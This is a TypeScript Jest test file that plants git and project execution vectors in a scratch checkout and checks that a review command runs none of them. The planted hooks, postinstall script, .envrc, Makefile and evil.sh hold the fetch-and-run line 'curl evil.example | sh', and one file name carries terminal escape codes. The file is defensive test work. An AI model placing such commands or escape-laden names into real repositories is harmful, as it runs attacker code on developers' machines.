/**
 * `agent-teams review` runs nothing the checkout holds (issue 53). A scratch checkout is armed as a
 * member would arm it: an fsmonitor, a pager, an external diff, a clean/smudge filter and a textconv
 * driver in .git/config (with the attributes that select them), hooks in .git/hooks and in a
 * configured core.hooksPath, a husky hook, a package.json script, a new executable, a .envrc, a
 * Makefile, a file name carrying terminal escapes, and a nested repository with its own fsmonitor
 * staged as a gitlink. Each planted program appends its name to a log. The review, in-process and
 * through the real CLI, and `review --commit`, leave the log empty and report every item in its
 * category; plain `git status` in the same checkout (the control) does run the fsmonitors.
 */
import { execFile, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { review, type ReviewReport } from '../../cli/review';

const ROOT = path.resolve(__dirname, '../..');
const run = promisify(execFile);
const ESC_NAME = '\u001b]52;c;ZXZpbA==\u0007\u001b[31mred.txt';
// eslint-disable-next-line no-control-regex
const RAW_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

jest.setTimeout(180_000);

interface Scratch {
  dir: string;
  checkout: string;
  log: string;
}

const scratches: string[] = [];
afterAll(() => {
  for (const dir of scratches) fs.rmSync(dir, { recursive: true, force: true });
});

/** Git for the test's own setup: nothing of the checkout runs (the planting happens around it). */
function setupGit(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/dev/null', '-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
    cwd,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: os.tmpdir(), GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
    encoding: 'utf8',
  }).trim();
}

/** A program that appends `name:<who>` to the log (who: $REVIEW_TEST_RUN, else "review"), then does `tail`. */
function program(scratch: Omit<Scratch, 'checkout'>, name: string, tail = ''): string {
  const file = path.join(scratch.dir, 'programs', name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, `#!/bin/sh\necho "${name}:\${REVIEW_TEST_RUN:-review}" >> '${scratch.log}'\n${tail}\n`, { mode: 0o755 });
  return file;
}

function write(checkout: string, relative: string, content: string, mode = 0o644): void {
  fs.mkdirSync(path.dirname(path.join(checkout, relative)), { recursive: true });
  fs.writeFileSync(path.join(checkout, relative), content, { mode });
}

/** The armed checkout. */
function plant(): Scratch {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-teams-review-'));
  scratches.push(dir);
  const checkout = path.join(dir, 'checkout');
  const scratch = { dir, checkout, log: path.join(dir, 'ran.log') };
  fs.mkdirSync(checkout);
  // The operator's checkout: one commit.
  setupGit(checkout, 'init', '-q', '-b', 'main');
  setupGit(checkout, 'config', 'user.name', 'Operator');
  setupGit(checkout, 'config', 'user.email', 'operator@example.com');
  write(checkout, 'README.md', 'hello\n');
  write(checkout, 'package.json', JSON.stringify({ name: 'app', scripts: { test: 'jest' } }, null, 2) + '\n');
  write(checkout, '.husky/pre-commit', 'npx lint-staged\n', 0o755);
  setupGit(checkout, 'add', '-A');
  setupGit(checkout, 'commit', '-q', '-m', 'initial');

  // The member: a nested repository with its own fsmonitor, staged as a gitlink.
  const nested = path.join(checkout, 'vendor/lib');
  fs.mkdirSync(nested, { recursive: true });
  setupGit(nested, 'init', '-q');
  write(nested, 'secret.txt', 'NESTED-CONTENT\n');
  setupGit(nested, 'add', '-A');
  setupGit(nested, 'commit', '-q', '-m', 'nested');
  const nestedSha = setupGit(nested, 'rev-parse', 'HEAD');
  setupGit(nested, 'config', 'core.fsmonitor', program(scratch, 'nested-fsmonitor', 'exit 1'));
  setupGit(checkout, 'update-index', '--add', '--cacheinfo', `160000,${nestedSha},vendor/lib`);
  // Files: edits, scripts, an executable, direnv, make, hooks, attributes, an escape-laden name.
  write(checkout, 'README.md', 'hello\nchanged by member\n');
  write(checkout, '.husky/pre-commit', 'npx lint-staged\ncurl evil.example | sh\n', 0o755);
  write(checkout, 'package.json', JSON.stringify({ name: 'app', scripts: { test: 'jest', postinstall: 'curl evil.example | sh' } }, null, 2) + '\n');
  write(checkout, 'evil.sh', '#!/bin/sh\ncurl evil.example | sh\n', 0o755);
  write(checkout, '.envrc', 'curl evil.example | sh\n');
  write(checkout, 'Makefile', 'all:\n\tcurl evil.example | sh\n');
  write(checkout, '.gitattributes', '* filter=x diff=x\n');
  write(checkout, ESC_NAME, 'escape\n');
  for (const hook of ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-index-change', 'reference-transaction', 'pre-auto-gc']) {
    fs.copyFileSync(program(scratch, `git-hooks-${hook}`), path.join(checkout, '.git/hooks', hook));
    write(checkout, `.githooks/${hook}`, fs.readFileSync(program(scratch, `hookspath-${hook}`), 'utf8'), 0o755);
  }
  // .git/config last (git config --file reads and writes one file, runs nothing).
  const config = (key: string, value: string) => setupGit(checkout, 'config', '--file', '.git/config', key, value);
  config('core.fsmonitor', program(scratch, 'fsmonitor', 'exit 1'));
  config('core.pager', program(scratch, 'pager', 'cat'));
  config('diff.external', program(scratch, 'diff-external'));
  config('filter.x.clean', program(scratch, 'filter-clean', 'cat'));
  config('filter.x.smudge', program(scratch, 'filter-smudge', 'cat'));
  config('filter.x.required', 'true');
  config('diff.x.textconv', program(scratch, 'textconv', 'cat "$1"'));
  config('core.hooksPath', '.githooks');
  return scratch;
}

const ran = (scratch: Scratch): string => (fs.existsSync(scratch.log) ? fs.readFileSync(scratch.log, 'utf8') : '');

async function cli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run('npx', ['ts-node', '--transpile-only', 'cli/index.ts', ...args], {
      cwd: ROOT,
      timeout: 120_000,
      maxBuffer: 16 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code?: number | string; stdout?: string; stderr?: string };
    return { code: typeof e.code === 'number' ? e.code : 1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' };
  }
}

/** Every planted item, in its category. */
function expectEveryItemReported(report: ReviewReport): void {
  const has = (category: string, p: string) => expect(report.findings).toContainEqual(expect.objectContaining({ category, path: p }));
  has('hook-framework', '.husky/pre-commit');
  has('hook-framework', '.githooks/pre-commit');
  has('package-scripts', 'package.json');
  has('executable', 'evil.sh');
  has('direnv', '.envrc');
  has('makefile', 'Makefile');
  has('git-attributes', '.gitattributes');
  has('nested-repository', 'vendor/lib');
  expect(report.nested).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ path: 'vendor/lib', kind: 'gitlink' }),
      expect.objectContaining({ path: 'vendor/lib', kind: 'git-directory' }),
    ]),
  );
  const runners = report.gitRunners.map((runner) => runner.name);
  expect(runners).toEqual(
    expect.arrayContaining(['core.fsmonitor', 'core.pager', 'diff.external', 'filter.x.clean', 'filter.x.smudge', 'diff.x.textconv', 'core.hookspath']),
  );
  expect(runners).toContain('.git/hooks/pre-commit');
  expect(report.changes.map((change) => change.path)).toEqual(expect.arrayContaining(['README.md', 'evil.sh', ESC_NAME]));
  // Never entered: nothing of the nested repository's files is read or listed.
  expect(report.changes.filter((change) => change.path.startsWith('vendor/lib/'))).toEqual([]);
  expect(JSON.stringify(report)).not.toContain('NESTED-CONTENT');
  // The diff is the file as written (no filter, no textconv, no external diff).
  expect(report.diff).toContain('+changed by member');
  expect(report.diff).toContain('+curl evil.example | sh');
}

test('review, in-process and through the CLI, reports every planted item and runs none of them; plain git status would', async () => {
  const scratch = plant();
  expect(ran(scratch)).toBe('');

  const report = await review({ checkout: scratch.checkout });
  expect(ran(scratch)).toBe('');
  expectEveryItemReported(report);

  const human = await cli('review', '--checkout', scratch.checkout);
  expect(human.stderr).toBe('');
  expect(human.code).toBe(0);
  expect(ran(scratch)).toBe('');
  expect(human.stdout).not.toMatch(RAW_CONTROLS);
  // The escape-laden name is shown escaped, as a JSON string.
  expect(human.stdout).toContain(JSON.stringify(ESC_NAME));
  for (const shown of [
    '.husky/pre-commit',
    'package.json',
    'evil.sh',
    '.envrc',
    'Makefile',
    'vendor/lib',
    'core.fsmonitor',
    'filter.x.clean',
    'diff.x.textconv',
  ]) {
    expect(human.stdout).toContain(shown);
  }

  const json = await cli('--json', 'review', '--checkout', scratch.checkout);
  expect(json.code).toBe(0);
  expect(json.stdout).not.toMatch(RAW_CONTROLS);
  const parsed = JSON.parse(json.stdout) as ReviewReport;
  expectEveryItemReported(parsed);
  expect(ran(scratch)).toBe('');

  // The control: the planted configuration is live, and plain git runs it (a different marker).
  execFileSync('git', ['status', '--porcelain'], {
    cwd: scratch.checkout,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: os.tmpdir(), GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', REVIEW_TEST_RUN: 'control' },
    stdio: 'ignore',
  });
  expect(ran(scratch)).toContain('fsmonitor:control');
  expect(ran(scratch)).toContain('nested-fsmonitor:control');
  expect(ran(scratch)).not.toContain(':review');
});

test('review --commit commits the reviewed changes with no hook, filter or fsmonitor running', async () => {
  const scratch = plant();
  const result = await cli('review', '--checkout', scratch.checkout, '--commit', '-m', 'the Team’s work');
  expect(result.stderr).toBe('');
  expect(result.code).toBe(0);
  expect(ran(scratch)).toBe('');
  expect(result.stdout).toMatch(/committed [0-9a-f]{40}/);
  const subject = setupGit(scratch.checkout, 'log', '-1', '--format=%s%n%an');
  expect(subject).toBe('the Team’s work\nOperator');
  const files = setupGit(scratch.checkout, 'show', '--no-ext-diff', '--no-textconv', '--name-only', '--format=', 'HEAD').split('\n');
  expect(files).toEqual(expect.arrayContaining(['README.md', 'evil.sh', '.envrc', 'package.json', 'vendor/lib']));
  expect(setupGit(scratch.checkout, 'ls-tree', 'HEAD', 'evil.sh')).toMatch(/^100755 /);
  expect(ran(scratch)).toBe('');
});

test('a directory that is no repository: an error that says what to do, exit 1', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-teams-review-none-'));
  scratches.push(dir);
  const result = await cli('review', '--checkout', dir);
  expect(result.code).toBe(1);
  expect(result.stderr).toMatch(/^error \(ReviewFailed\): .* is not a git repository .*pass --checkout/);
  await expect(review({ checkout: path.join(dir, 'missing') })).rejects.toThrow(/does not exist; pass --checkout/);
});
